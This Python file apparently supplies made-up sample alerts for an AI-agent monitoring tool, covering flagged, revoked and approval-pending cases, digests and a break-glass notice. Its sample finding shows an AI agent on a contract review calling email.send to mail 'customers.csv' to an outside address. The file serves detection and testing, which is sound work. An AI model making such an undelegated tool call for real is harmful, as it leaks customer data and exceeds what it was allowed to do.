"""One alert of each kind that people get, made up and marked as such: for tests of channels and for previews."""

import math
from collections.abc import Mapping
from datetime import datetime, timedelta

from guardian.alerting import case_blocks
from guardian.alerting.block_kit import Block
from guardian.alerting.port import Alert, Digest, Step
from guardian.domain.finding import Act, Effect, Evidence, Finding, Kind, NamedBreach, Reason, Subject, finding_id
from guardian.wire.approvals import ApprovalView
from guardian.wire.cases import CaseEvent, CaseState, CaseView, SimilarCase, TrendPoint
from guardian.wire.findings import AlertOutcome, Became, FindingOutcome, FindingView

_TENANT, _SESSION, _CASE = "tenant_example", "sess_example", "sample"


def samples(now: datetime) -> Mapping[str, Alert]:
    """By kind: a case in three states, a reply, an escalation, a digest, and control's own news."""
    flagged = _case("flagged", now)
    waiting = _case("revoke_requested", now, approvals=(_approval(now),))
    revoked = _case("revoked", now, effect=Effect.REVOKE)
    events = (
        CaseEvent(
            at=now, by="guardian", what="flagged the session after 7 actions", finding_id=flagged.finding.id
        ),
        CaseEvent(at=now + timedelta(minutes=2), by="maya", what="snoozed the case", why="calling the owner"),
    )
    return {
        "flagged": flagged,
        "waits_for_approval": waiting,
        "revoked": revoked,
        "reply": _step(flagged, "reply", events=events),
        "escalation": _step(flagged, "escalate"),
        "digest": _digest(flagged, now),
        "news": _news(now),
    }


def without_cases(now: datetime) -> Mapping[str, Alert]:
    """By kind, for channels that keep no cases: a finding that was flagged, one that was revoked, and what became
    of the first: that it was revoked, and that nobody has to do anything any more."""
    flagged, revoked = (
        each.model_copy(update={"step": None, "view": None})
        for each in (_case("flagged", now), _case("revoked", now, effect=Effect.REVOKE))
    )
    update = Became(at=now, by="maya", what="revoked the session", why="a sample", state="revoked", over=False)
    said = {"what": "called it a false positive", "state": "dismissed", "verdict": "false_positive", "over": True}
    close = update.model_copy(update={"at": now + timedelta(seconds=1), **said})
    became = {"update": update, "close": close}
    follow = {kind: flagged.model_copy(update={"became": each}) for kind, each in became.items()}
    return {"flagged": flagged, "revoked": revoked, **follow}


def shown(alert: Alert) -> list[Block]:
    """The blocks that Slack gets for it."""
    return case_blocks.reply(alert) if alert.verb in ("reply", "escalate") else case_blocks.root(alert)


def _step(alert: Alert, verb: str, *, events: tuple[CaseEvent, ...] = ()) -> Alert:
    step = Step.model_validate({"verb": verb, "key": f"sample:{verb}", "since": alert.finding.time})
    return alert.model_copy(update={"step": step, "events": events})


def _case(
    state: CaseState, now: datetime, *, effect: Effect = Effect.FLAG, approvals: tuple[ApprovalView, ...] = ()
) -> Alert:
    finding = _finding(now)
    note = (
        "revoked: very strong evidence from at least two independent signals"
        if effect is Effect.REVOKE
        else "revoke not permitted, flagged instead: denied by auto-revoke-never-protected (the session is "
        "protected: a person must decide)"
    )
    told = FindingOutcome(
        finding_id=finding.id,
        tenant_id=_TENANT,
        session_id=_SESSION,
        wanted=Effect.REVOKE,
        effect=effect,
        note=note,
        mode="enforce",
        at=now,
    )
    policy = "monitor-may-revoke-on-strong-evidence" if effect is Effect.REVOKE else "auto-revoke-never-protected"
    outcome = AlertOutcome(
        effect=effect, allowed=effect is Effect.REVOKE, note=note, policy_ids=(policy,), mode="enforce"
    )
    past = now - timedelta(days=9)
    view = CaseView(
        tenant_id=_TENANT,
        session_id=_SESSION,
        state=state,
        digest="0" * 32,
        shown=FindingView(finding=finding, outcome=told),
        findings=4,
        approvals=approvals,
        protected=effect is Effect.FLAG,
        trend=tuple(TrendPoint(weight=w, actions=n) for n, w in enumerate((0.4, 1.1, 2.9, math.log10(40_000)), 4)),
        similar=(
            SimilarCase(
                session_id="sess_older", finding_id="fnd_older", at=past, tool="email.send", ended="dismissed"
            ),
        ),
    )
    step = Step(verb="post", key="sample:1", since=now)
    return Alert(finding=finding, outcome=outcome, case=_CASE, view=view, step=step)


def _finding(now: datetime) -> Finding:
    return Finding(
        id=finding_id(Kind.DRIFT, _TENANT, _SESSION, "sample"),
        kind=Kind.DRIFT,
        tenant_id=_TENANT,
        session_id=_SESSION,
        wanted=Effect.REVOKE,
        severity="high",
        title="A sample: a renewal review sends customer data outside",
        subject=Subject(
            delegator_id="user_example",
            agent_id="agent_renewal_review",
            purpose="review_customer_contract_for_renewal_risk",
            expires_at=now + timedelta(hours=1),
        ),
        act=Act(
            decision_id="dec_example",
            gateway="mcp-gw-example",
            tool="email.send",
            arguments='{"to": "broker@outside.example", "attachment": "customers.csv"}',
            argument="to",
            time=now,
        ),
        reasons=(
            Reason(signal="purpose_fit", share=0.55, value=0.97, text="sending e-mail is no part of a review"),
            Reason(signal="envelope_breach", share=0.3, value=1.0, text="email.send was not delegated"),
            Reason(signal="purpose_baseline", share=0.15, value=0.8, text="never seen in 214 past sessions"),
        ),
        breaches=(NamedBreach(name="tool_not_allowed", detail="email.send is not delegated", hard=True),),
        evidence=Evidence(
            score=0.96, p_value=0.001, session_evidence=4.6, one_in=40_000, independent_signals=3, actions_seen=7
        ),
        time=now,
    )


def _approval(now: datetime) -> ApprovalView:
    return ApprovalView(
        id="apr_example",
        tenant_id=_TENANT,
        session_id=_SESSION,
        action="revoke",
        proposer="monitor",
        reason="A sample: a renewal review sends customer data outside",
        created_at=now,
        expires_at=now + timedelta(hours=4),
    )


def _digest(alert: Alert, now: datetime) -> Alert:
    digest = Digest(
        tenant_id=_TENANT, since=now, total=214, severities={"critical": 2, "high": 12, "medium": 30, "low": 170}
    )
    return alert.model_copy(update={"digest": digest, "view": None})


def _news(now: datetime) -> Alert:
    detail = "maya may act without a second person for 30 minutes: a sample"
    finding = Finding(
        id="news_sample",
        kind=Kind.CONTROL,
        tenant_id=_TENANT,
        session_id="guardian",
        wanted=Effect.FLAG,
        severity="critical",
        title="maya broke the glass (a sample)",
        reasons=(Reason(signal="break_glass", share=1.0, value=1.0, text=detail),),
        time=now,
    )
    outcome = AlertOutcome(effect=Effect.FLAG, allowed=True, note=detail, mode="enforce")
    step = Step(verb="post", key="sample:news", since=now)
    return Alert(finding=finding, outcome=outcome, case="sample_news", step=step)
